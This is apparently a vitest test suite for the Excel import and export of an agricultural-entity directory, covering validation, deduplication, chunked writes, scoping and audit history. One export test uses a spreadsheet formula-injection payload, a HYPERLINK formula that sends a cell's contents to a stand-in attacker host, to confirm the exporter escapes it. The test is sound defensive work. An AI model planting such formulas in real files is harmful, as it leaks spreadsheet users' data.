import { creditCodeCheckChar, idCardCheckChar } from '@nongan/shared/entities/check-digits';
import { and, count, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { buildTestApp, DISTRICT, type Requester, type TestApp, TOWN_A, TOWN_B } from '../../test/helper.ts';
import { auditLog } from '../audit/table.ts';
import { planEntityExport } from './export.ts';
import { importEntitiesFromBuffer } from './import.ts';
import { entities, importBatches } from './table.ts';
import { HEADERS } from './xlsx-columns.ts';

let t: TestApp;
let office: Requester;
let townA: Requester;
let townB: Requester;
const VILLAGE_A = `${TOWN_A}201`;

beforeAll(async () => {
  t = await buildTestApp();
  office = await t.as('district_staff');
  townA = await t.as('town_supervisor', TOWN_A);
  townB = await t.as('town_supervisor', TOWN_B);
  const v = await office({
    method: 'POST',
    url: '/api/divisions',
    payload: { code: VILLAGE_A, name: '石桥村', parentCode: TOWN_A },
  });
  expect(v.statusCode, v.body).toBe(201);
  await office({
    method: 'POST',
    url: '/api/divisions',
    payload: { code: `${VILLAGE_A}01`, name: '石桥第1网格', parentCode: VILLAGE_A },
  });
});
afterAll(() => t.close());

let seq = 7000;
const credit = () => {
  const first17 = `93500151${String(++seq).padStart(9, '0')}`;
  return first17 + creditCodeCheckChar(first17);
};
const idCard = () => {
  const first17 = `50022419800101${String(++seq % 1000).padStart(3, '0')}`;
  return first17 + idCardCheckChar(first17);
};

const wrongCheck = (c: string) => `${c.slice(0, 17)}${c.endsWith('0') ? '1' : '0'}`;

type Row = Partial<Record<(typeof HEADERS)[number], string | number>>;
const row = (over: Row = {}): Row => ({
  名称: `导入测试合作社${++seq}`,
  类型: '农民专业合作社',
  统一社会信用代码: credit(),
  '法定代表人/负责人': '王建国',
  联系电话: '13800138000',
  地址: '重庆市铜梁区土桥镇石桥村3组',
  镇街: '土桥镇',
  行业: '蔬菜、水果',
  主要产品: '白菜,柑橘',
  合格证试行: '是',
  追溯管理: '否',
  风险等级: '低风险',
  ...over,
});

async function xlsx(rows: Row[], headers: readonly string[] = HEADERS): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('主体名录');
  ws.addRow([...headers]);
  for (const r of rows) ws.addRow(headers.map((h) => r[h as keyof Row] ?? null));
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function multipart(buf: Buffer, filename = '名录.xlsx') {
  const boundary = '----nongan-test-boundary';
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\n`;
  return {
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([Buffer.from(head), buf, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  };
}

const upload = (who: Requester, buf: Buffer, mode = 'lenient') =>
  who({ method: 'POST', url: `/api/entities/import?mode=${mode}`, ...multipart(buf) });

async function readXlsx(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb;
}

const sheetRows = (ws: ExcelJS.Worksheet) => {
  const out: unknown[][] = [];
  ws.eachRow((r) => out.push((r.values as unknown[]).slice(1)));
  return out;
};

async function counts() {
  const [e] = await t.database.db.select({ n: count() }).from(entities);
  const [a] = await t.database.db.select({ n: count() }).from(auditLog);
  const [b] = await t.database.db.select({ n: count() }).from(importBatches);
  return { entities: Number(e?.n), audit: Number(a?.n), batches: Number(b?.n) };
}

const auditAfter = async (id: string) =>
  (
    await t.database.db
      .select({ after: auditLog.after })
      .from(auditLog)
      .where(and(eq(auditLog.subjectType, 'entity'), eq(auditLog.subjectId, id)))
  )[0]?.after;

const byName = async (name: string) => t.database.db.select().from(entities).where(eq(entities.name, name));

describe('entity import', () => {
  it('gives a template with the column headers and a 说明 sheet of allowed values', async () => {
    const res = await townA({ url: '/api/entities/import/template' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toContain("filename*=UTF-8''");
    const wb = await readXlsx(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['主体名录', '说明']);
    expect(sheetRows(wb.worksheets[0] as ExcelJS.Worksheet)[0]).toEqual([...HEADERS]);
    const help = JSON.stringify(sheetRows(wb.worksheets[1] as ExcelJS.Worksheet));
    for (const word of ['蒲吕街道', '太平镇', '农民专业合作社', '农资经营', '高风险', '是”或“否'])
      expect(help).toContain(word);
  });

  it('imports valid rows leniently, reports bad ones by row and column, and audits everything', async () => {
    const before = await counts();
    const good = [
      row({ 村: '石桥村', 网格: '石桥第1网格', 纬度: 29.85, 经度: 106.05 }),
      row({ 镇街: '蒲吕镇', 地址: '重庆市铜梁区蒲吕街道1号', 行业: 'grain_oil', 主要产品: '' }),
      row({
        名称: '张散户',
        类型: '散户',
        统一社会信用代码: '',
        身份证号: idCard(),
        镇街: TOWN_B,
        风险等级: '',
      }),
    ];
    const bad = [
      row({ 统一社会信用代码: wrongCheck(credit()) }),
      row({ 类型: '大公司', 联系电话: '12345' }),
      row({ 村: '不存在村' }),
    ];
    const res = await upload(
      office,
      await xlsx([
        good[0] as Row,
        bad[0] as Row,
        good[1] as Row,
        bad[1] as Row,
        good[2] as Row,
        bad[2] as Row,
      ]),
    );
    expect(res.statusCode, res.body).toBe(200);
    const r = res.json();
    expect(r).toMatchObject({ total: 6, created: 3, updated: 0, unchanged: 0, failed: 3, committed: true });
    expect(r.errors).toEqual(
      expect.arrayContaining([
        { row: 3, column: '统一社会信用代码', reason: expect.stringContaining('校验位') },
        { row: 5, column: '类型', reason: '无法识别的类型：大公司' },
        { row: 5, column: '联系电话', reason: expect.stringContaining('12345') },
        { row: 7, column: '村', reason: expect.stringContaining('不存在村') },
      ]),
    );
    const [first] = await byName(good[0]?.名称 as string);
    expect(first).toMatchObject({
      townCode: TOWN_A,
      villageCode: VILLAGE_A,
      gridCode: `${VILLAGE_A}01`,
      type: 'cooperative',
      industries: ['vegetables', 'fruit'],
      mainProducts: ['白菜', '柑橘'],
      certificateTrial: true,
      traceManaged: false,
      lat: 29.85,
      version: 1,
    });
    // The page reads the place by name, the grid too (never its 14-digit code).
    const view = await townA({ url: `/api/entities/${first?.id}` });
    expect(view.json()).toMatchObject({ townName: '土桥镇', villageName: '石桥村', gridName: '石桥第1网格' });
    expect((await byName(good[1]?.名称 as string))[0]).toMatchObject({
      townCode: '500151004',
      industries: ['grain_oil'],
      mainProducts: [],
    });
    expect((await byName('张散户'))[0]).toMatchObject({
      townCode: TOWN_B,
      type: 'smallholder',
      riskGrade: 'low',
    });
    const after = await counts();
    expect(after.entities - before.entities).toBe(3);
    expect(after.batches - before.batches).toBe(1);
    // One audit row for the batch; the three new entities are linked to it, not audited one by one.
    expect(after.audit - before.audit).toBe(1);
    const [batchAudit] = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.subjectType, 'import'), eq(auditLog.subjectId, r.batchId)));
    expect(batchAudit).toMatchObject({
      action: 'import',
      after: expect.objectContaining({ created: 3, failed: 3 }),
    });
    expect(first?.importBatchId).toBe(r.batchId);
    const history = (await office({ url: `/api/entities/${first?.id}/history` })).json();
    expect(history).toHaveLength(1);
    expect(history[0]).toMatchObject({
      id: batchAudit?.id,
      action: 'import',
      username: batchAudit?.username,
      after: { fileName: '名录.xlsx' },
    });
  });

  it("links each created entity to its batch, and its history to the batch's audit row, then its edits", async () => {
    const id = idCard();
    const res = await upload(
      office,
      await xlsx([
        row({ 名称: '批次来源合作社', 村: '石桥村', 纬度: 29.85, 经度: 106.05 }),
        row({ 名称: '批次来源散户', 类型: '散户', 统一社会信用代码: '', 身份证号: id, 主要产品: '' }),
      ]),
    );
    expect(res.json()).toMatchObject({ created: 2, committed: true });
    const { batchId } = res.json();
    for (const name of ['批次来源合作社', '批次来源散户']) {
      const [e] = await byName(name);
      expect(e?.importBatchId).toBe(batchId);
      expect(await auditAfter(e?.id as string)).toBeUndefined();
    }
    // An edit after the import is audited on the entity as before, after the batch's row.
    const [smallholder] = await byName('批次来源散户');
    const edit = await office({
      method: 'PATCH',
      url: `/api/entities/${smallholder?.id}`,
      payload: { version: smallholder?.version, phone: '13900001111' },
    });
    expect(edit.statusCode, edit.body).toBe(200);
    const history = (await office({ url: `/api/entities/${smallholder?.id}/history` })).json();
    expect(history.map((h: { action: string }) => h.action)).toEqual(['import', 'update']);
    expect(history[0].subjectId).toBe(batchId);
    expect(history[1].after).toMatchObject({ phone: '13900001111' });
    // The entity's history shows the batch's file, not the batch's counts.
    expect(history[0].after).toEqual({ fileName: '名录.xlsx' });
    // The batch's other entity, never edited, has the batch's row alone.
    const [other] = await byName('批次来源合作社');
    const otherHistory = (await office({ url: `/api/entities/${other?.id}/history` })).json();
    expect(otherHistory).toHaveLength(1);
  });

  it('reads a file in chunks: duplicates and existing records across chunks, strict all-or-nothing', async () => {
    // The upload worker hands rows over 2,000 at a time: 2,100 rows span two chunks.
    const rows = Array.from({ length: 2100 }, (_, i) => row({ 名称: `分块导入${i}` }));
    // Row 2,052, in the second chunk, repeats row 2's credit code.
    (rows[2050] as Row).统一社会信用代码 = (rows[0] as Row).统一社会信用代码 as string;
    const before = await counts();
    const strictBad = await upload(office, await xlsx(rows), 'strict');
    expect(strictBad.json()).toMatchObject({ total: 2100, created: 0, failed: 1, committed: false });
    expect(strictBad.json().errors).toEqual([
      { row: 2052, column: '统一社会信用代码', reason: '与第2行的统一社会信用代码重复' },
    ]);
    const mid = await counts();
    expect(mid).toEqual({ ...before, batches: before.batches + 1, audit: before.audit + 1 });

    const lenient = await upload(office, await xlsx(rows));
    expect(lenient.json()).toMatchObject({ total: 2100, created: 2099, failed: 1, committed: true });
    const after = await counts();
    expect(after.entities - mid.entities).toBe(2099);
    expect(after.audit - mid.audit).toBe(1);

    // The same file again: every row matches the record it created, across both chunks.
    const again = await upload(office, await xlsx(rows));
    expect(again.json()).toMatchObject({ created: 0, updated: 0, unchanged: 2099, failed: 1 });
  });

  it.skipIf(!process.env.TEST_DATABASE_URL)(
    'looks existing records up on a connection of its own beside the writes, and always closes it',
    async () => {
      const aside = t.database.aside;
      if (!aside) throw new Error('a PostgreSQL test database has a connection aside');
      let opened = 0;
      let closed = 0;
      let lookups = 0;
      const counted = async () => {
        const side = await aside();
        opened++;
        // Counts the lookups that go to the connection aside (findExisting selects on it).
        const db = new Proxy(side.db, {
          get: (target, key, receiver) => {
            if (key === 'select') lookups++;
            return Reflect.get(target, key, receiver);
          },
        });
        return { db, close: () => side.close().then(() => void closed++) };
      };
      const actor = { user: null, ip: null };
      const scope = { kind: 'district' as const, districtCode: DISTRICT };
      const rows = Array.from({ length: 2100 }, (_, i) => row({ 名称: `旁路查重${i}` }));
      const first = await importEntitiesFromBuffer(t.database.db, actor, scope, await xlsx(rows), {
        mode: 'lenient',
        fileName: 'x.xlsx',
        aside: counted,
      });
      expect(first).toMatchObject({ created: 2100, updated: 0, committed: true });
      expect({ opened, closed }).toEqual({ opened: 1, closed: 1 });
      expect(lookups).toBeGreaterThan(0);
      // Again, with 100 rows changed and 100 new ones: each row matched against the directory.
      const changed = rows.map((r, i) => (i < 100 ? { ...r, 备注: '旁路更新' } : r));
      const added = Array.from({ length: 100 }, (_, i) => row({ 名称: `旁路新增${i}` }));
      const second = await importEntitiesFromBuffer(
        t.database.db,
        actor,
        scope,
        await xlsx([...changed, ...added]),
        {
          mode: 'lenient',
          fileName: 'x.xlsx',
          aside: counted,
        },
      );
      expect(second).toMatchObject({
        created: 100,
        updated: 100,
        unchanged: 2000,
        failed: 0,
        committed: true,
      });
      // A file refused mid-way still closes it.
      await expect(
        importEntitiesFromBuffer(t.database.db, actor, scope, await xlsx(rows), {
          mode: 'lenient',
          fileName: 'x.xlsx',
          maxRows: 2050,
          aside: counted,
        }),
      ).rejects.toMatchObject({ statusCode: 400 });
      expect({ opened, closed }).toEqual({ opened: 3, closed: 3 });
      // No connection to spare: the lookups stay in the import's transaction, and it still works.
      const refused = async (): Promise<never> => {
        throw new Error('too many clients already');
      };
      const error = vi.spyOn(console, 'error').mockImplementation(() => undefined);
      try {
        const third = await importEntitiesFromBuffer(t.database.db, actor, scope, await xlsx(rows), {
          mode: 'lenient',
          fileName: 'x.xlsx',
          aside: refused,
        });
        expect(third).toMatchObject({ created: 0, unchanged: 2000, updated: 100, committed: true });
        expect(error).toHaveBeenCalledWith(expect.stringContaining('too many clients already'));
      } finally {
        error.mockRestore();
      }
    },
  );

  it('writes nothing when the file is refused after a chunk was already written', async () => {
    // 2,600 rows against a cap of 2,500: the first 2,000 are checked and written before the worker
    // reaches row 2,501 and refuses the file.
    const rows = Array.from({ length: 2600 }, (_, i) => row({ 名称: `超限导入${i}` }));
    const before = await counts();
    const actor = { user: null, ip: null };
    await expect(
      importEntitiesFromBuffer(
        t.database.db,
        actor,
        { kind: 'district', districtCode: DISTRICT },
        await xlsx(rows),
        {
          mode: 'lenient',
          fileName: 'x.xlsx',
          maxRows: 2500,
        },
      ),
    ).rejects.toMatchObject({ statusCode: 400, message: expect.stringContaining('2500 行的上限') });
    expect(await counts()).toEqual(before);
    expect(await byName('超限导入0')).toEqual([]);
  });

  it('re-imports the same file without duplicates, updating only changed rows', async () => {
    const rows = [
      row(),
      row({ 类型: '家庭农场' }),
      row({ 名称: '李散户', 类型: '散户', 统一社会信用代码: '', 身份证号: idCard() }),
    ];
    const first = (await upload(office, await xlsx(rows))).json();
    expect(first).toMatchObject({ created: 3, failed: 0 });
    const before = await counts();
    const again = (await upload(office, await xlsx(rows))).json();
    expect(again).toMatchObject({
      total: 3,
      created: 0,
      updated: 0,
      unchanged: 3,
      failed: 0,
      committed: true,
    });
    const changed = [
      { ...rows[0], 联系电话: '13911112222' },
      rows[1],
      { ...rows[2], 地址: '重庆市铜梁区土桥镇新地址5号' },
    ] as Row[];
    const third = (await upload(office, await xlsx(changed))).json();
    expect(third).toMatchObject({ created: 0, updated: 2, unchanged: 1 });
    const after = await counts();
    expect(after.entities).toBe(before.entities);
    const [e] = await byName(rows[0]?.名称 as string);
    expect(e).toMatchObject({ phone: '13911112222', version: 2 });
    const history = (await office({ url: `/api/entities/${e?.id}/history` })).json();
    expect(history.at(-1)).toMatchObject({
      action: 'update',
      before: { phone: '13800138000' },
      after: { phone: '13911112222' },
    });
    expect((await byName('李散户'))[0]).toMatchObject({ version: 2, address: '重庆市铜梁区土桥镇新地址5号' });
  });

  it('matches existing records by each kind of key in one file: credit code, ID card, and name and town', async () => {
    const card = idCard();
    const rows = [
      row(),
      // Names no other test uses: a second 散户 of the same name and town would match by name too.
      row({ 名称: '钱散户（按键匹配）', 类型: '散户', 统一社会信用代码: '', 身份证号: idCard() }),
      row({ 名称: '孙散户（按键匹配）', 类型: '散户', 统一社会信用代码: '', 身份证号: card }),
    ];
    expect((await upload(office, await xlsx(rows))).json()).toMatchObject({ created: 3, failed: 0 });
    // As an export with masked ID cards gives it back: the third row is found by its name and town.
    const masked = `${card.slice(0, 6)}********${card.slice(14)}`;
    const again = [rows[0], rows[1], { ...rows[2], 身份证号: masked }] as Row[];
    expect((await upload(office, await xlsx(again))).json()).toMatchObject({
      created: 0,
      updated: 0,
      unchanged: 3,
      failed: 0,
    });
  });

  it('reports a duplicate row in the file against the later row', async () => {
    const a = row();
    const res = (await upload(office, await xlsx([a, { ...a, 名称: '另一个名字合作社' }]))).json();
    expect(res).toMatchObject({ created: 1, failed: 1 });
    expect(res.errors).toEqual([
      { row: 3, column: '统一社会信用代码', reason: '与第2行的统一社会信用代码重复' },
    ]);
  });

  it('commits nothing in strict mode when any row fails', async () => {
    const before = await counts();
    const res = await upload(office, await xlsx([row(), row(), row({ 联系电话: 'abc' })]), 'strict');
    expect(res.json()).toMatchObject({ total: 3, created: 0, failed: 1, committed: false });
    const after = await counts();
    expect(after.entities).toBe(before.entities);
    expect(after.batches).toBe(before.batches + 1); // the batch is kept for its error report
    const ok = await upload(office, await xlsx([row(), row()]), 'strict');
    expect(ok.json()).toMatchObject({ created: 2, committed: true });
  });

  it('leaves nothing half-written when the database fails mid-way', async () => {
    const db = t.database.db;
    await db.execute(
      sql.raw(`create function boom() returns trigger language plpgsql as $$
      begin if new.name = '故障测试合作社' then raise exception 'boom'; end if; return new; end $$`),
    );
    await db.execute(
      sql.raw('create trigger boom before insert on entities for each row execute function boom()'),
    );
    try {
      const before = await counts();
      const rows = [row(), row(), row(), row(), row({ 名称: '故障测试合作社' }), row()];
      const actor = { user: null, ip: null };
      await expect(
        importEntitiesFromBuffer(db, actor, { kind: 'district', districtCode: DISTRICT }, await xlsx(rows), {
          mode: 'lenient',
          fileName: 'x.xlsx',
          chunkSize: 2,
        }),
      ).rejects.toThrow();
      const viaHttp = await upload(office, await xlsx(rows));
      expect(viaHttp.statusCode).toBe(500);
      expect(await counts()).toEqual(before);
    } finally {
      await db.execute(sql.raw('drop trigger boom on entities'));
      await db.execute(sql.raw('drop function boom()'));
    }
  });

  it('refuses a file that is not .xlsx, a wrong header and an empty sheet, changing nothing', async () => {
    const before = await counts();
    const csv = await upload(office, Buffer.from('名称,类型\n甲,企业\n'));
    expect(csv.statusCode).toBe(400);
    expect(csv.json().issues[0]).toMatchObject({ field: 'file', reason: '不是 Excel .xlsx 文件' });

    const headers = HEADERS.filter((h) => h !== '联系电话' && h !== '备注').concat(['颜色']);
    const wrong = await upload(office, await xlsx([row()], headers));
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().issues[0].field).toBe('file');
    expect(wrong.json().message).toContain('缺少列：联系电话、备注');
    expect(wrong.json().message).toContain('多余列：颜色');

    const empty = await upload(office, await xlsx([]));
    expect(empty.statusCode).toBe(400);
    expect(empty.json().message).toContain('没有数据行');

    const zipNotWorkbook = await upload(
      office,
      Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]),
    );
    expect(zipNotWorkbook.statusCode).toBe(400);

    const none = await office({ method: 'POST', url: '/api/entities/import', payload: {} });
    expect(none.statusCode).toBe(400);
    expect(await counts()).toEqual(before);
  });

  it('limits a town supervisor to its own town, and refuses non-editors', async () => {
    const res = (await upload(townA, await xlsx([row(), row({ 镇街: '安居镇' }), row()]))).json();
    expect(res).toMatchObject({ created: 2, failed: 1 });
    expect(res.errors).toEqual([{ row: 3, column: '镇街', reason: expect.stringContaining('不在本人辖区') }]);

    // The same credit code registered in another town is not updated from here.
    const other = row({ 镇街: '安居镇' });
    expect((await upload(townB, await xlsx([other]))).json()).toMatchObject({ created: 1 });
    const steal = (await upload(townA, await xlsx([{ ...other, 镇街: '土桥镇' }]))).json();
    expect(steal).toMatchObject({ created: 0, updated: 0, failed: 1 });
    expect((await byName(other.名称 as string))[0]).toMatchObject({ townCode: TOWN_B, version: 1 });

    const strict = (await upload(townA, await xlsx([row(), row({ 镇街: TOWN_B })]), 'strict')).json();
    expect(strict).toMatchObject({ committed: false, created: 0 });

    const checker = await t.as('market_checker');
    expect((await upload(checker, await xlsx([row()]))).statusCode).toBe(403);
    expect(
      (await t.app.inject({ method: 'POST', url: '/api/entities/import', ...multipart(await xlsx([row()])) }))
        .statusCode,
    ).toBe(401);
  });

  it('serves the error report to its importer and district staff only', async () => {
    const bad = row({ 联系电话: '999' });
    const r = (await upload(townA, await xlsx([row(), bad]))).json();
    const report = await townA({ url: `/api/imports/${r.batchId}/errors` });
    expect(report.statusCode).toBe(200);
    const rows = sheetRows((await readXlsx(report.rawPayload)).worksheets[0] as ExcelJS.Worksheet);
    expect(rows[0]?.slice(0, 4)).toEqual(['行', '列', '原因', '名称']);
    expect(rows[1]?.slice(0, 4)).toEqual([3, '联系电话', expect.stringContaining('999'), bad.名称]);
    expect((await office({ url: `/api/imports/${r.batchId}/errors` })).statusCode).toBe(200);
    expect((await townB({ url: `/api/imports/${r.batchId}/errors` })).statusCode).toBe(404);
  });
});

describe('entity export', () => {
  it('exports the filtered, scoped rows, and the file re-imports with nothing changed', async () => {
    const smallholder = row({
      名称: '王散户',
      类型: '散户',
      统一社会信用代码: '',
      身份证号: idCard(),
      村: '石桥村',
    });
    await upload(office, await xlsx([smallholder, row({ 类型: '企业', 行业: '畜牧、家禽' })]));
    const res = await townA({ url: '/api/entities/export?active=all&page=1&pageSize=20' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/filename\*=UTF-8''%E7%94%9F/);
    const wb = await readXlsx(res.rawPayload);
    const rows = sheetRows(wb.worksheets[0] as ExcelJS.Worksheet);
    expect(rows[0]).toEqual([...HEADERS]);
    const [n] = await t.database.db
      .select({ n: count() })
      .from(entities)
      .where(eq(entities.townCode, TOWN_A));
    expect(rows.length - 1).toBe(Number(n?.n));
    expect(rows.every((r, i) => i === 0 || r[7] === '土桥镇')).toBe(true);
    const wang = rows.find((r) => r[0] === '王散户');
    expect(wang?.[3]).toMatch(/^\d{6}\*{8}\d{3}[\dX]$/);
    expect(wang?.[8]).toBe('石桥村');

    const again = (await upload(townA, res.rawPayload)).json();
    expect(again).toMatchObject({
      failed: 0,
      created: 0,
      updated: 0,
      unchanged: Number(n?.n),
      committed: true,
    });

    const filtered = await townA({ url: `/api/entities/export?type=enterprise&industry=livestock` });
    const frows = sheetRows((await readXlsx(filtered.rawPayload)).worksheets[0] as ExcelJS.Worksheet);
    expect(frows.length).toBeGreaterThan(1);
    expect(frows.slice(1).every((r) => r[1] === '企业' && String(r[10]).includes('畜牧'))).toBe(true);
  });

  it('exports text that looks like a formula as a literal, and re-imports it unchanged', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
    const created = await townA({
      method: 'POST',
      url: '/api/entities',
      payload: {
        name,
        type: 'cooperative',
        creditCode: credit(),
        legalRep: '王建国',
        phone: '13800138000',
        address: '+1+2 土桥镇',
        townCode: TOWN_A,
        industries: ['vegetables'],
        mainProducts: ['@白菜', '-菠菜'],
        remarks: "'=已带引号",
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const res = await townA({ url: `/api/entities/export?q=${encodeURIComponent('HYPERLINK')}` });
    const rows = sheetRows((await readXlsx(res.rawPayload)).worksheets[0] as ExcelJS.Worksheet);
    expect(rows).toHaveLength(2);
    const cells = rows[1] as unknown[];
    expect(cells[0]).toBe(`'${name}`); // text, not { formula }
    expect(cells[6]).toBe("'+1+2 土桥镇");
    expect(cells[11]).toBe("'@白菜、-菠菜");
    expect(cells[18]).toBe("''=已带引号");
    expect(cells.every((c) => typeof c !== 'string' || !/^[=+\-@]/.test(c))).toBe(true);

    const again = (await upload(townA, res.rawPayload)).json();
    expect(again).toMatchObject({ failed: 0, created: 0, updated: 0, unchanged: 1, committed: true });
    const [stored] = await byName(name);
    expect(stored).toMatchObject({
      address: '+1+2 土桥镇',
      mainProducts: ['@白菜', '-菠菜'],
      remarks: "'=已带引号",
    });
  });

  it('refuses a masked ID card for a new entity', async () => {
    const r = (
      await upload(
        office,
        await xlsx([
          row({ 名称: '赵散户', 类型: '散户', 统一社会信用代码: '', 身份证号: '500224********0011' }),
        ]),
      )
    ).json();
    expect(r.errors).toEqual([{ row: 2, column: '身份证号', reason: expect.stringContaining('脱敏') }]);
  });

  it('refreshes the search statistics after answering a big import, not before', async () => {
    const run = vi.spyOn(t.app.upkeep, 'run');
    try {
      const small = await upload(office, await xlsx([row(), row()]));
      expect(small.json()).toMatchObject({ created: 2 });
      expect(run).not.toHaveBeenCalled();
      const big = await upload(office, await xlsx(Array.from({ length: 1000 }, () => row())));
      expect(big.json()).toMatchObject({ created: 1000, committed: true });
      expect(run).toHaveBeenCalledTimes(1);
      expect(run).toHaveBeenCalledWith('主体检索统计更新', expect.any(Function));
      await t.app.upkeep.drain();
      // analyze ran: the planner's row count for the directory is now at least the import's.
      const res = await t.database.db.execute(sql`select reltuples from pg_class where relname = 'entities'`);
      const [c] = (res as unknown as { rows: { reltuples: number }[] }).rows;
      expect(Number(c?.reltuples)).toBeGreaterThanOrEqual(1000);
    } finally {
      run.mockRestore();
    }
  });

  it.skipIf(!process.env.TEST_DATABASE_URL)(
    'merges the search entries a big import left pending after the answer, also when it was rolled back (PostgreSQL)',
    async (ctx) => {
      const { db } = t.database;
      // pgstattuple (PostgreSQL's contrib, in Debian's server package) counts the GIN index's
      // pending entries; a server without contrib skips this test, visibly.
      const available = await db.execute(
        sql`select 1 from pg_available_extensions where name = 'pgstattuple'`,
      );
      if ((available as unknown as { rows: unknown[] }).rows.length === 0)
        ctx.skip('pgstattuple is not installed');
      await db.execute(sql`create extension if not exists pgstattuple`);
      const pending = async () => {
        const res = await db.execute(
          sql`select pending_tuples from pgstatginindex('entities_search_idx'::regclass)`,
        );
        return Number((res as unknown as { rows: { pending_tuples: string }[] }).rows[0]?.pending_tuples);
      };
      await db.execute(sql`select gin_clean_pending_list('entities_search_idx'::regclass)`);
      expect(await pending()).toBe(0);
      const held: (() => Promise<void>)[] = [];
      const run = vi.spyOn(t.app.upkeep, 'run').mockImplementation((_what, work) => void held.push(work));
      try {
        const rows = Array.from({ length: 3000 }, (_, i) => row({ 名称: `待并检索合作社${i}` }));
        const big = await upload(office, await xlsx(rows));
        expect(big.json()).toMatchObject({ created: 3000, committed: true });
        expect(await pending()).toBeGreaterThan(0);
        // Found while they wait (a search reads the pending list too).
        const found = await office({
          method: 'GET',
          url: `/api/entities?q=${encodeURIComponent('待并检索合作社2999')}`,
        });
        expect(found.json().items.map((i: { name: string }) => i.name)).toEqual(['待并检索合作社2999']);
        expect(held).toHaveLength(1);
        await held[0]?.();
        expect(await pending()).toBe(0);
        // A strict file refused after its first chunk (2,000 rows) was written and rolled back: the
        // entries of those rows stay pending until merged, so they are merged after the answer too.
        const good = Array.from({ length: 2500 }, () => row());
        const refused = await upload(office, await xlsx([...good, row({ 镇街: '无此镇' })]), 'strict');
        expect(refused.json()).toMatchObject({ committed: false });
        expect(await pending()).toBeGreaterThan(0);
        expect(held).toHaveLength(2);
        await held[1]?.();
        expect(await pending()).toBe(0);
      } finally {
        run.mockRestore();
      }
    },
  );

  it('refuses more rows than the cap instead of truncating', async () => {
    await expect(
      planEntityExport(
        t.database.db,
        { kind: 'district', districtCode: DISTRICT },
        { active: 'all', sort: 'name' },
        2,
      ),
    ).rejects.toMatchObject({ statusCode: 400, message: expect.stringContaining('缩小筛选范围') });
  });
});
